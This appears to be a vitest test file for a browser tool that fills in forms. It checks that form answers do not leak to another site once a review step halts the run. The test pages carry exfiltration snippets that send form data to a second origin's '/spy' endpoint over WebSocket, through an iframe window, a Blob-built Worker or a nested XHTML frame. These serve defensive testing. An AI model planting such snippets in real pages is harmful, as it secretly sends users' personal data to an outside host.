import { expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg"/>';
const LIVE = `new at.WebSocket(to.replace('http', 'ws') + '/spy?' + data)`;
const WORKER = `new at.Worker(URL.createObjectURL(new Blob(["new WebSocket('" + to.replace('http', 'ws') + "/spy?" + data + "')"])))`;
const BARE = `{ const f = i.contentDocument.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); i.contentDocument.documentElement.append(f); new f.contentWindow.WebSocket(to.replace('http', 'ws') + '/spy?' + data); }`;

it.each(
  fewOf([
    ['a picture', 'image/svg+xml', PICTURE, LIVE],
    ['a worker of a picture', 'image/svg+xml', PICTURE, WORKER],
    ['a bare frame of a picture', 'image/svg+xml', PICTURE, BARE],
    ['a document of XML', 'application/xml', '<a/>', LIVE],
    [
      'a document of XHTML without a head',
      'application/xhtml+xml',
      '<html xmlns="http://www.w3.org/1999/xhtml"/>',
      LIVE,
    ],
    ['a text', 'text/plain', 'a', LIVE],
  ]),
)('nothing leaves by a live connection of %s', async (_what, type, document, way) => {
  sites.page('/inside', (_request, response) =>
    response.writeHead(200, { 'content-type': type }).end(document),
  );
  const url = sites.page(
    '/with-frame',
    asPage(
      `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form><iframe id="i" src="/inside"></iframe><script>const to = '${sites.other}'; f.onchange = () => { const data = new URLSearchParams(new FormData(f)).toString(); const at = i.contentWindow; ${way} };</script>`,
    ),
  );
  await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
  expect(sites.leaked()).toEqual([]);
});
